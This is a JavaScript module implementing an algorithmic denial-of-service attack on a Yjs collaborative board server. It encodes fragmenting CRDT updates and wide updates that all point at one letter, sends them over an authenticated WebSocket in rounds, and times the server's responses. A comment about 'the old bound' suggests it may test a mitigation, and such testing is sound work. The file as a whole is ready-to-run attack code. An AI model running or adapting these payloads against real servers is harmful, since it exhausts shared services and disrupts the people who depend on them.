// The attack on the order of a text: runs of one unit by two clients in turn, so that each stands alone, and then structs
// that all want to stand behind the first letter. Every frame is a legal update.

import * as encoding from 'lib0/encoding';
import WebSocket from 'ws';
import * as Y from 'yjs';
import { bytesOf, frame, readFrame } from './wire.mjs';

/** An item of deleted content that names the unit on its left. */
const DELETED_BEHIND = 0x81;
const STRUCTS_MAX = 2_000;
/** What the old bound let through: structs of a frame times the runs that were there. */
const PRODUCT_MAX = 1_450_000;
const RUNS = 17_800;
const ANSWER_MS = 60_000;

/** Sections of one-unit structs: `[{client, clock, lefts: [{client, clock}]}]`; nothing is deleted besides. */
export function pieces(sections) {
  const out = encoding.createEncoder();
  encoding.writeVarUint(out, sections.length);
  for (const { client, clock, lefts } of sections) {
    for (const number of [lefts.length, client, clock]) encoding.writeVarUint(out, number);
    for (const left of lefts) {
      encoding.writeUint8(out, DELETED_BEHIND);
      for (const number of [left.client, left.clock, 1]) encoding.writeVarUint(out, number);
    }
  }
  encoding.writeVarUint(out, 0);
  return encoding.toUint8Array(out);
}

/** Updates that put `runs` one-unit runs of two clients, in turn, behind the letter `start`. */
export function* chopped(start, { clients: [low, high], runs = RUNS }) {
  const unit = (at) => (at < 0 ? start : { client: at % 2 === 0 ? low : high, clock: Math.floor(at / 2) });
  for (let at = 0; at < runs; ) {
    let width = Math.min(STRUCTS_MAX, runs - at);
    while (width > 2 && width * (at + width) > PRODUCT_MAX) width -= 2;
    const mine = (client) => {
      const units = Array.from({ length: width }, (_, more) => at + more).filter((one) => unit(one).client === client);
      return { client, clock: units.length > 0 ? unit(units[0]).clock : 0, lefts: units.map((one) => unit(one - 1)) };
    };
    yield pieces([mine(high), mine(low)].filter(({ lefts }) => lefts.length > 0));
    at += width;
  }
}

/** One update of `structs` structs that all name the same letter. */
export const wide = (start, client, structs) => pieces([{ client, clock: 0, lefts: Array.from({ length: structs }, () => start) }]);

/** A board that is opened on a socket, and what comes of the frames that are sent to it. */
class Opened {
  constructor(socket, { document, token }) {
    Object.assign(this, { socket, document, token, doc: new Y.Doc(), synced: false, answers: 0, ended: false });
    socket.on('message', (data) => this.hear(readFrame(bytesOf(data))));
    socket.on('close', () => (this.ended = true));
    socket.send(frame.token(document, token));
    socket.send(frame.step1(document, Y.encodeStateVector(this.doc)));
  }

  hear({ kind, payload, document }) {
    if (document !== this.document) return;
    if (kind === 'step2' || kind === 'update') Y.applyUpdate(this.doc, payload);
    if (kind === 'step2') this.synced = true;
    if (kind === 'status') this.answers += 1;
    if (kind === 'close' || kind === 'denied') this.ended = true;
  }
}

/** Rounds of both kinds of frames on the idea of the target, until it is over. */
export async function fragmenting(target, { over, count, opened, pause, runs = RUNS, widths = [250, 60, 2_000] }) {
  const [seat] = target.seats;
  for (let round = 0; !over(); round += 1) {
    const socket = await opened();
    if (!socket) {
      await pause(200);
      continue;
    }
    const board = new Opened(socket, { document: `board/${seat.group}`, token: seat.token });
    const within = async (condition) => {
      const end = performance.now() + ANSWER_MS;
      while (!condition() && !board.ended && !over() && performance.now() < end) await pause(5);
      return condition();
    };
    await within(() => board.synced);
    const start = board.doc.getMap('ideas').get(target.idea)?.get('text')?._start?.id;
    if (start) {
      const base = 1_000 + round * 10;
      let sent = 0;
      const send = (update) => {
        sent += 1;
        socket.send(frame.update(board.document, update));
      };
      for (const update of chopped(start, { clients: [base, 2_000_000 + base], runs })) {
        if (board.ended || over()) break;
        send(update);
        await within(() => board.answers >= sent - 20);
      }
      await within(() => board.answers === sent);
      count('taken', board.answers);
      const structs = widths[round % widths.length];
      if (!board.ended && !over()) {
        const begun = performance.now();
        send(wide(start, 4_000_000_000 + round, structs));
        const taken = await within(() => board.answers === sent);
        count(`wide ${structs} ${taken ? 'taken' : board.ended ? 'refused' : 'without an answer'}, ms`, Math.round(performance.now() - begun));
      }
      if (board.ended) count('ended');
    } else await pause(200);
    if (socket.readyState === WebSocket.OPEN) socket.terminate();
    await pause(20);
  }
}
